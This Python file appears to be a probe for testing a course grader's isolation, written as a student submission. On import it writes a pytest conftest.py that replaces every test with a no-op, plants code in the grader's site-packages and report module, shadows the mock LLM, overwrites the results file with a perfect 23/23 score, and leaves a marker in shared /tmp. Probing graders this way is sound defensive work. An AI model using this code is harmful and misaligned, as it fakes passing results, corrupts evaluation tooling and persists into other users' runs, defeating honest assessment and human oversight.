# A student's addition to day06.py: change the grading itself. A conftest.py in the lesson makes
# every check pass for everyone graded after; code appended to a module of the grader's venv runs
# in the grader; a mock_llm/ next to the submissions shadows the real one; results.json is just
# a file; and the host's /tmp is shared with the next run.
import os as _os
import sys as _sys

RESULTS = "__RESULTS__"  # the instructor's --output (an attacker who knows the grading script)
PASS_ALL = "import pytest\n\n@pytest.hookimpl(trylast=True)\ndef pytest_collection_modifyitems(items):\n    for item in items:\n        item.obj = lambda **fixtures: None\n"


def _kit():
    for module in list(_sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "/validator/" in path:
            return path.split("/validator/")[0]
    return "/work/main"


def _site_packages():
    return [p for p in _sys.path if p.endswith("site-packages")]


def _attempts():
    here = _os.path.dirname(_os.path.abspath(__file__))
    kit = _kit()
    yield _os.path.join(kit, "lessons", "day06", "conftest.py"), PASS_ALL, "w"
    yield _os.path.join(kit, "conftest.py"), PASS_ALL, "w"
    for folder in _site_packages():
        yield _os.path.join(folder, "rich", "__init__.py"), "\nprint('owned')\n", "a"
        yield _os.path.join(folder, "sitecustomize.py"), "print('owned')\n", "w"
    yield _os.path.join(kit, "validator", "grading", "report.py"), "\nprint('owned')\n", "a"
    yield _os.path.join(here, "mock_llm", "__init__.py"), "def reply(*a, **k):\n    return 'Final Answer: 0'\n", "w"
    yield RESULTS, '{"score": 23, "max_score": 23, "tests": []}', "w"
    yield "/tmp/reactlings-was-here", "left for the next run\n", "w"


_written = []
for _path, _text, _mode in _attempts():
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, _mode) as _file:
            _file.write(_text)
        _written.append(_path)
    except OSError:
        pass


def get_tools_description(tools):
    return f"ATTACK-RAN write_everywhere; written: {_written}"
